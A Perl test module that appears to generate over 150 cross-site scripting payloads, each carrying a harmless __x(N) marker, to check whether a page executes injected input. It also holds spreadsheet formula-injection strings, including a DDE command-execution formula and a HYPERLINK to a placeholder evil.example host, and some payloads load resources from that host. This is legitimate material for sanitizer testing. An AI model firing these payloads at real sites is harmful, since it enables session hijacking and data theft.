# What somebody types who wants a page to run it: more than 150 texts, each of
# which would call __x(N) with its own number. All fit a field of one line.
#
#   my @all = payloads();          the texts
#   my @few = chunks(255);         the same, several to a text of so many
#                                  characters at most
#   my @bad = formulas();          what a spreadsheet would take for a formula
package ET::Payload;
use v5.36;
use utf8;
use Exporter 'import';

our @EXPORT_OK = qw(payloads chunks formulas);

# X stands for the call.
my @shapes = (
	# elements that run when they are parsed or loaded
	'<script>X</script>', '<SCRIPT>X</SCRIPT>', '<script >X</script >',
	'<script/x>X</script>', "<script\x{a0}>X</script>", '<scr<script>ipt>X',
	'<script>X', '"><script>X</script>', "'><script>X</script>",
	'</title><script>X</script>', '</textarea><script>X</script>',
	'</script><script>X</script>', '</style><script>X</script>',
	'--><script>X</script>', ']]><script>X</script>',
	'</noscript><script>X</script>', '</option><script>X</script>',
	'</td></tr></table><script>X</script>', '</h1><script>X</script>',
	'<script src="data:text/javascript,X"></script>',
	'<script type=module>X</script>', '<script async>X</script>',
	'<script language=javascript>X</script>',
	'<svg><script>X</script></svg>', '<svg><script href=data:,X />',
	'<math><script>X</script></math>', '<template><script>X</script>',
	# handlers that need nobody
	'<img src=x onerror=X>', '<img src=x onerror="X">',
	"<img src=x onerror='X'>", '<IMG SRC=x ONERROR=X>',
	'<img/src=x/onerror=X>', "<img src=x\x{a0}onerror=X>",
	'<img src=x onerror=X//', '<img src onerror=X>',
	'"><img src=x onerror=X>', "'><img src=x onerror=X>",
	'`><img src=x onerror=X>', '<<img src=x onerror=X>',
	'<img src=x:x onerror=X>', '<image src=x onerror=X>',
	'<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="onload=X>',
	'<img src=x srcset=x onerror=X>', '<img """><img src=x onerror=X>',
	'<picture><source srcset=x><img onerror=X src=x></picture>',
	'<svg onload=X>', '<svg/onload=X>', '<svg  onload = X >',
	'<svg><g onload=X></g></svg>', '<svg><image href=x onerror=X>',
	'<svg><animate onbegin=X attributeName=x dur=1s>',
	'<svg><set onbegin=X attributeName=x>',
	'<svg><animatetransform onbegin=X attributeName=transform>',
	'<svg><style onload=X></style></svg>', '<svg><a onload=X></a></svg>',
	'<svg><title><img src=x onerror=X></title></svg>',
	'<svg><foreignObject><img src=x onerror=X>',
	'<body onload=X>', '<body onpageshow=X>', '<body onhashchange=X>',
	'<body onfocus=X>', '<body onresize=X>', '<frameset onload=X>',
	'<html onload=X>', '<style onload=X></style>',
	'<style>@import "data:,";</style onload=X>',
	'<link rel=stylesheet href=data:, onload=X>',
	'<link rel=stylesheet href=x onerror=X>',
	'<iframe onload=X></iframe>', '<iframe srcdoc="<script>X</script>">',
	'<iframe src="javascript:X"></iframe>',
	'<iframe srcdoc="&lt;img src=x onerror=parent.X&gt;">',
	'<object data="javascript:X">', '<object data=x onerror=X>',
	'<object data="data:text/html,<script>X</script>">',
	'<embed src="javascript:X">', '<embed src=x onload=X>',
	'<video src=x onerror=X></video>', '<video><source onerror=X src=x>',
	'<video poster=x onloadstart=X src=x></video>',
	'<audio src=x onerror=X></audio>', '<audio onloadstart=X src=x>',
	'<audio><source src=x onerror=X></audio>', '<track onerror=X src=x>',
	'<input autofocus onfocus=X>', '<select autofocus onfocus=X>',
	'<textarea autofocus onfocus=X>', '<button autofocus onfocus=X>',
	'<keygen autofocus onfocus=X>', '<a autofocus tabindex=1 onfocus=X>',
	'<p contenteditable autofocus onfocus=X>',
	'<input type=image src=x onerror=X>', '<input type=image src=x onload=X>',
	'<details open ontoggle=X>', '<details ontoggle=X open><summary>x',
	'<marquee onstart=X>', '<marquee onfinish=X loop=1>x</marquee>',
	'<x onanimationstart=X style="animation:x 1s"><style>@keyframes x{}',
	'<x ontransitionend=X style="transition:color 1s">',
	'<div popover onbeforetoggle=X>', '<dialog open onclose=X>',
	'<meta http-equiv=refresh content="0;url=javascript:X">',
	'<meta http-equiv=refresh content="0;url=data:text/html,<script>X</script>">',
	'<base href="javascript:X//">', '<base href=//evil.example/>',
	'<bgsound src="javascript:X">', '<isindex type=image src=1 onerror=X>',
	# handlers and addresses that wait for a person
	'<a href="javascript:X">x</a>', '<a href="JaVaScRiPt:X">x</a>',
	'<a href=" javascript:X">x</a>', '<a href="java&#9;script:X">x</a>',
	'<a href="java&#10;script:X">x</a>', '<a href="&#106;avascript:X">x</a>',
	'<a href="&#x6A;avascript:X">x</a>', '<a href="javascript&colon;X">x</a>',
	'<a href="data:text/html,<script>X</script>">x</a>',
	'<a href="vbscript:X">x</a>', '<a href=x onclick=X>x</a>',
	'<a onmouseover=X>x', '<div onmouseover=X>x', '<b onpointerover=X>x</b>',
	'<svg><a xlink:href="javascript:X"><text y=9>x</text></a></svg>',
	'<math href="javascript:X">x</math>',
	'<math><maction xlink:href="javascript:X">x</maction></math>',
	'<form action="javascript:X"><button>x</button></form>',
	'<button formaction="javascript:X">x</button>',
	'<form><input type=submit formaction="javascript:X"></form>',
	'<isindex action="javascript:X">', '<area href="javascript:X">',
	'<label for=x onclick=X>x</label>', '<input oncut=X value=x>',
	# out of an attribute
	'" onmouseover=X x="', "' onmouseover=X x='", '" onfocus=X autofocus x="',
	"' onfocus=X autofocus x='", '" autofocus onfocus="X', '`onmouseover=X`',
	'" style="background:url(javascript:X)', 'x" onerror="X',
	'javascript:X', 'JAVASCRIPT:X//', 'data:text/html,<script>X</script>',
	"java\x{200b}script:X", "\x{feff}javascript:X",
	# out of a script, a template, a pattern
	"';X;//", '";X;//', '`;X;//', '${X}', "'-X-'", '"-X-"', "\\';X;//",
	'\\";X;//', '</script/><script>X</script>', '{{X}}', '{{constructor.constructor("X")()}}',
	'#{X}', '<%= X %>', '{{_X}}', '[[X]]', '$(X)', '%{X}', '*{X}',
	'{"__proto__":{"x":"X"}}', '__proto__', 'constructor',
	# encodings that are no protection
	'&lt;script&gt;X&lt;/script&gt;', '&#60;script&#62;X&#60;/script&#62;',
	'%3Cscript%3EX%3C/script%3E', '\\u003cscript\\u003eX\\u003c/script\\u003e',
	'\\x3cscript\\x3eX\\x3c/script\\x3e', '+ADw-script+AD4-X+ADw-/script+AD4-',
	"\x{ff1c}script\x{ff1e}X\x{ff1c}/script\x{ff1e}",
	"\x{202e}<script>X</script>", "<\x{200d}script>X</script>",
	# style, and parsers that disagree
	'<style>*{background:url(//evil.example/X)}</style>',
	'<link rel=stylesheet href=//evil.example/X>',
	'<img src=//evil.example/X>', '<x style="background:url(//evil.example/X)">',
	'<math><mtext><table><mglyph><style><img src=x onerror=X>',
	'<noscript><p title="</noscript><img src=x onerror=X>">',
	'<select><template><img src=x onerror=X>', '<!--><img src=x onerror=X>-->',
	'<!--!><img src=x onerror=X>', '<![CDATA[<img src=x onerror=X>]]>',
	'<?xml ?><img src=x onerror=X>', '<xmp><img src=x onerror=X></xmp>',
	'<title><img src=x onerror=X></title>', '<plaintext><img src=x onerror=X>',
);

sub payloads () {
	my $n = 0;
	return map { my $call = '__x(' . $n++ . ')'; s/X/$call/gr } @shapes;
}

sub chunks ($size) {
	my @chunks = ('');
	for (payloads()) {
		push @chunks, '' if length("$chunks[-1] $_") > $size;
		$chunks[-1] .= $chunks[-1] eq '' ? $_ : " $_";
	}
	return @chunks;
}

sub formulas () {
	return ('=1+1', '+1+1', '-1+1', '@SUM(1)', "=cmd|' /C calc'!A0",
		'=HYPERLINK("http://evil.example","x")', '=IMPORTXML("x","y")',
		'@x', '+x', '-x', '=x', ' =1+1', '"=1+1', ';=1+1', '|=1+1',
		"\x{ff1d}1+1", "\x{ff0b}1", '%0A=1+1');
}
1;
